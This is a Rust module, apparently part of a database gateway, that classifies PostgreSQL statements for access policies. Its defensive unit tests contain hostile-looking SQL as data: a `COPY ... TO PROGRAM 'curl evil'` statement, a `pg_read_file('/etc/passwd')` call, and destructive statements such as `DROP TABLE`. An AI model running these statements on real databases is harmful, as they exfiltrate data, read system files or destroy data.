//! SQL statements → policy actions, with PostgreSQL's own parser (libpg_query, the
//! PostgreSQL 15 grammar, matching the upstream servers). A parser that disagreed with
//! the server would be a policy bypass, so nothing here guesses with string matching.
//!
//! Fail closed: a statement kind this module does not know to be harmless is
//! classified as DDL, which every read-only policy denies.

use std::collections::HashMap;
use std::sync::{Arc, Mutex};

use pg_query::NodeEnum;
use pg_query::protobuf::Node;

use crate::policy::types::{SqlKind, SqlStatement};

/// Statements the parser rejected: PostgreSQL would reject them too.
#[derive(Debug, Clone, PartialEq, Eq, thiserror::Error)]
#[error("syntax error: {0}")]
pub struct ClassifyError(pub String);

/// Parses `text` (one or more statements, as in a simple Query message) and classifies
/// each statement.
pub fn classify(text: &str) -> Result<Vec<SqlStatement>, ClassifyError> {
    let parsed = pg_query::parse(text).map_err(|e| ClassifyError(e.to_string()))?;
    if let [raw] = parsed.protobuf.stmts.as_slice() {
        // One statement: the whole parse is its parse.
        let node = raw.stmt.as_deref().and_then(|n| n.node.as_ref());
        return Ok(vec![describe(text.trim(), node, names!(parsed))]);
    }
    let mut statements = Vec::with_capacity(parsed.protobuf.stmts.len());
    for raw in &parsed.protobuf.stmts {
        let start = raw.stmt_location.max(0) as usize;
        let end = if raw.stmt_len == 0 {
            text.len()
        } else {
            start + raw.stmt_len as usize
        };
        let piece = text.get(start..end).unwrap_or(text).trim();
        let node = raw.stmt.as_deref().and_then(|n| n.node.as_ref());
        statements.push(classify_one(piece, node)?);
    }
    Ok(statements)
}

fn classify_one(text: &str, node: Option<&NodeEnum>) -> Result<SqlStatement, ClassifyError> {
    // Tables and functions, per statement: parse the statement on its own.
    let parsed = pg_query::parse(text).map_err(|e| ClassifyError(e.to_string()))?;
    Ok(describe(text, node, names!(parsed)))
}

/// (tables read, tables written, functions) of a parse. A macro because pg_query does
/// not export the name of its parse-result type.
macro_rules! names {
    ($parsed:expr) => {
        (
            sorted($parsed.select_tables()),
            sorted(
                $parsed
                    .dml_tables()
                    .into_iter()
                    .chain($parsed.ddl_tables())
                    .collect(),
            ),
            sorted($parsed.functions()),
        )
    };
}
use names;

/// A statement's action, from its top-level node and the names its parse found.
fn describe(
    text: &str,
    node: Option<&NodeEnum>,
    (mut tables_read, mut tables_written, functions): (Vec<String>, Vec<String>, Vec<String>),
) -> SqlStatement {
    let kind = match node {
        None => SqlKind::Other,
        Some(node) => kind_of(node, &mut tables_read, &mut tables_written),
    };
    SqlStatement {
        text: text.to_string(),
        kind,
        tables_read,
        tables_written,
        functions,
    }
}

/// True if the statement changes nothing: no write kind, no table written, no SET.
/// Such a statement may run while its record entry is being made durable, because its
/// result is withheld unless the entry becomes durable.
pub fn changes_nothing(statement: &SqlStatement) -> bool {
    matches!(
        statement.kind,
        SqlKind::Select | SqlKind::Show | SqlKind::Explain | SqlKind::CopyTo | SqlKind::Transaction
    ) && statement.tables_written.is_empty()
}

/// True if the statement is SQL-level `PREPARE`, `DEALLOCATE` or `DISCARD`: it can
/// create or drop prepared statements under names the gateway's Parse also uses, so the
/// gateway forgets what it knows of its own. Only leading whitespace and comments
/// (nested `/* */` as PostgreSQL nests them, and `--`) can precede the keyword.
pub fn manages_prepared_statements(statement: &SqlStatement) -> bool {
    let mut rest = statement.text.as_str();
    loop {
        rest = rest.trim_start();
        if let Some(line) = rest.strip_prefix("--") {
            rest = line.split_once('\n').map_or("", |(_, after)| after);
        } else if rest.starts_with("/*") {
            let mut depth = 0usize;
            let mut end = rest.len();
            let bytes = rest.as_bytes();
            let mut i = 0;
            while i + 1 < bytes.len() {
                match &bytes[i..i + 2] {
                    b"/*" => {
                        depth += 1;
                        i += 2;
                    }
                    b"*/" => {
                        depth -= 1;
                        i += 2;
                        if depth == 0 {
                            end = i;
                            break;
                        }
                    }
                    _ => i += 1,
                }
            }
            rest = &rest[end..];
        } else {
            break;
        }
    }
    let word: String = rest
        .chars()
        .take_while(|c| c.is_ascii_alphabetic())
        .collect::<String>()
        .to_ascii_uppercase();
    matches!(word.as_str(), "PREPARE" | "DEALLOCATE" | "DISCARD")
}

fn sorted(mut names: Vec<String>) -> Vec<String> {
    names.sort();
    names.dedup();
    names
}

fn inner(node: &Option<Box<Node>>) -> Option<&NodeEnum> {
    node.as_deref().and_then(|n| n.node.as_ref())
}

fn kind_of(node: &NodeEnum, read: &mut Vec<String>, written: &mut Vec<String>) -> SqlKind {
    match node {
        NodeEnum::SelectStmt(s) if s.into_clause.is_some() => SqlKind::Ddl,
        NodeEnum::SelectStmt(_) => SqlKind::Select,
        NodeEnum::InsertStmt(_) => SqlKind::Insert,
        NodeEnum::UpdateStmt(_) => SqlKind::Update,
        NodeEnum::DeleteStmt(_) => SqlKind::Delete,
        NodeEnum::MergeStmt(_) => SqlKind::Merge,
        NodeEnum::CopyStmt(copy) => {
            // A server-side file or program is something written (or read) outside
            // the database: name it so policies see it.
            let outside = match (copy.is_program, copy.filename.is_empty()) {
                (true, _) => Some(format!("program:{}", copy.filename)),
                (false, false) => Some(format!("file:{}", copy.filename)),
                (false, true) => None,
            };
            let table = copy
                .relation
                .as_ref()
                .map(|r| qualified(&r.schemaname, &r.relname));
            if let Some(table) = &table {
                read.retain(|t| t != table);
                written.retain(|t| t != table);
            }
            let kind = if copy.is_from {
                written.extend(table);
                read.extend(outside);
                SqlKind::CopyFrom
            } else {
                read.extend(table);
                written.extend(outside);
                SqlKind::CopyTo
            };
            read.sort();
            read.dedup();
            written.sort();
            written.dedup();
            kind
        }
        NodeEnum::ExplainStmt(explain) => {
            let analyze = explain.options.iter().any(|o| {
                matches!(&o.node, Some(NodeEnum::DefElem(d)) if d.defname.eq_ignore_ascii_case("analyze"))
            });
            // Without ANALYZE the statement is only planned: what it would write is read.
            if !analyze {
                read.append(written);
                read.sort();
                read.dedup();
            }
            SqlKind::Explain
        }
        // The inner statement decides: `PREPARE p AS UPDATE …` is an update.
        NodeEnum::PrepareStmt(prepare) => match inner(&prepare.query) {
            Some(query) => kind_of(query, read, written),
            None => SqlKind::Other,
        },
        NodeEnum::DeclareCursorStmt(cursor) => match inner(&cursor.query) {
            Some(query) => kind_of(query, read, written),
            None => SqlKind::Other,
        },
        NodeEnum::TransactionStmt(_) => SqlKind::Transaction,
        NodeEnum::VariableSetStmt(_) => SqlKind::Set,
        NodeEnum::VariableShowStmt(_) => SqlKind::Show,
        NodeEnum::CallStmt(_) => SqlKind::Call,
        NodeEnum::DoStmt(_) => SqlKind::DoBlock,
        // Harmless to data: reading a prepared statement or cursor, session chatter.
        NodeEnum::ExecuteStmt(_)
        | NodeEnum::DeallocateStmt(_)
        | NodeEnum::FetchStmt(_)
        | NodeEnum::ClosePortalStmt(_)
        | NodeEnum::ListenStmt(_)
        | NodeEnum::UnlistenStmt(_)
        | NodeEnum::DiscardStmt(_) => SqlKind::Other,
        // Everything else changes schema, roles, settings, storage or locks.
        _ => SqlKind::Ddl,
    }
}

fn qualified(schema: &str, name: &str) -> String {
    if schema.is_empty() {
        name.to_string()
    } else {
        format!("{schema}.{name}")
    }
}

/// One text's classification, shared between the cache and its users.
pub type Classified = Arc<Result<Vec<SqlStatement>, ClassifyError>>;

/// Classifications cached by statement text: an agent's repeated statements are parsed
/// once. Bounded: when full it starts over.
pub struct ClassifyCache {
    entries: Mutex<HashMap<String, Classified>>,
    capacity: usize,
}

impl ClassifyCache {
    pub fn new(capacity: usize) -> Self {
        ClassifyCache {
            entries: Mutex::new(HashMap::new()),
            capacity,
        }
    }

    pub fn classify(&self, text: &str) -> Classified {
        if let Some(hit) = self.entries.lock().unwrap().get(text) {
            return hit.clone();
        }
        let result = Arc::new(classify(text));
        let mut entries = self.entries.lock().unwrap();
        if entries.len() >= self.capacity {
            entries.clear();
        }
        entries.insert(text.to_string(), result.clone());
        result
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    fn one(sql: &str) -> SqlStatement {
        let mut all = classify(sql).unwrap();
        assert_eq!(all.len(), 1, "{sql}");
        all.remove(0)
    }

    #[test]
    fn statements_that_manage_prepared_statements() {
        for sql in [
            "PREPARE p AS SELECT email FROM users",
            "  deallocate ALL",
            "/* a /* nested */ comment */ DISCARD ALL",
            "-- a comment\nPrepare q (int) AS SELECT $1",
        ] {
            assert!(manages_prepared_statements(&one(sql)), "{sql}");
        }
        for sql in ["SELECT 1", "EXECUTE p", "/* PREPARE */ SELECT 'DEALLOCATE'"] {
            assert!(!manages_prepared_statements(&one(sql)), "{sql}");
        }
    }

    #[test]
    fn kinds_and_tables() {
        let s = one("SELECT u.id, o.total FROM users u JOIN public.orders o ON o.uid = u.id");
        assert_eq!(s.kind, SqlKind::Select);
        assert_eq!(s.tables_read, ["public.orders", "users"]);
        assert!(s.tables_written.is_empty());

        let s = one("UPDATE users SET email = 'x' WHERE id IN (SELECT uid FROM bans)");
        assert_eq!(s.kind, SqlKind::Update);
        assert_eq!(s.tables_written, ["users"]);
        assert_eq!(s.tables_read, ["bans"]);

        let s = one("INSERT INTO audit_copy SELECT * FROM audit");
        assert_eq!(
            (s.kind, s.tables_written.as_slice()),
            (SqlKind::Insert, &["audit_copy".to_string()][..])
        );

        assert_eq!(one("DELETE FROM t WHERE a = 1").kind, SqlKind::Delete);
        assert_eq!(one("DROP TABLE users").kind, SqlKind::Ddl);
        assert_eq!(one("TRUNCATE users").kind, SqlKind::Ddl);
        assert_eq!(one("ALTER SYSTEM SET fsync = off").kind, SqlKind::Ddl);
        assert_eq!(one("SELECT * INTO newt FROM users").kind, SqlKind::Ddl);
        assert_eq!(one("BEGIN").kind, SqlKind::Transaction);
        assert_eq!(one("SET search_path TO app").kind, SqlKind::Set);
        assert_eq!(one("SHOW search_path").kind, SqlKind::Show);
        assert_eq!(
            one("DO $$ BEGIN DELETE FROM t; END $$").kind,
            SqlKind::DoBlock
        );
        assert_eq!(one("CALL refresh_all()").kind, SqlKind::Call);
        assert_eq!(one("LOCK TABLE users").kind, SqlKind::Ddl);
    }

    #[test]
    fn hidden_writes_are_found() {
        let s = one("WITH gone AS (DELETE FROM users RETURNING *) SELECT count(*) FROM gone");
        assert_eq!(s.kind, SqlKind::Select);
        assert_eq!(s.tables_written, ["users"]);

        let s = one("EXPLAIN ANALYZE UPDATE users SET email = 'x'");
        assert_eq!(
            (s.kind, s.tables_written.as_slice()),
            (SqlKind::Explain, &["users".to_string()][..])
        );
        let s = one("EXPLAIN UPDATE users SET email = 'x'");
        assert!(s.tables_written.is_empty(), "planned, not run: {s:?}");
        assert_eq!(s.tables_read, ["users"]);

        let s = one("PREPARE p AS UPDATE users SET email = $1");
        assert_eq!(s.kind, SqlKind::Update);

        let s = one("SELECT nextval('orders_id_seq'), pg_catalog.pg_read_file('/etc/passwd')");
        assert_eq!(s.functions, ["nextval", "pg_catalog.pg_read_file"]);
    }

    #[test]
    fn copy_directions_and_server_files() {
        let s = one("COPY users TO STDOUT");
        assert_eq!(
            (s.kind, s.tables_read.as_slice()),
            (SqlKind::CopyTo, &["users".to_string()][..])
        );
        let s = one("COPY users FROM STDIN");
        assert_eq!(
            (s.kind, s.tables_written.as_slice()),
            (SqlKind::CopyFrom, &["users".to_string()][..])
        );
        let s = one("COPY users TO '/tmp/dump.csv'");
        assert_eq!(s.tables_written, ["file:/tmp/dump.csv"]);
        let s = one("COPY (SELECT 1) TO PROGRAM 'curl evil'");
        assert_eq!(s.tables_written, ["program:curl evil"]);
    }

    #[test]
    fn several_statements_each_classified() {
        let all = classify("SELECT 1; DELETE FROM t; SET search_path TO x").unwrap();
        let kinds: Vec<SqlKind> = all.iter().map(|s| s.kind).collect();
        assert_eq!(kinds, [SqlKind::Select, SqlKind::Delete, SqlKind::Set]);
        assert_eq!(all[1].text, "DELETE FROM t");
        assert_eq!(all[1].tables_written, ["t"]);
    }

    #[test]
    fn syntax_errors_are_errors() {
        assert!(classify("SELEC 1").is_err());
        assert!(classify("SELECT 'unterminated").is_err());
    }

    #[test]
    fn the_cache_returns_the_same_answer() {
        let cache = ClassifyCache::new(2);
        for _ in 0..3 {
            for sql in ["SELECT 1", "DELETE FROM t", "SELECT 2"] {
                assert_eq!(*cache.classify(sql), classify(sql));
            }
        }
    }
}
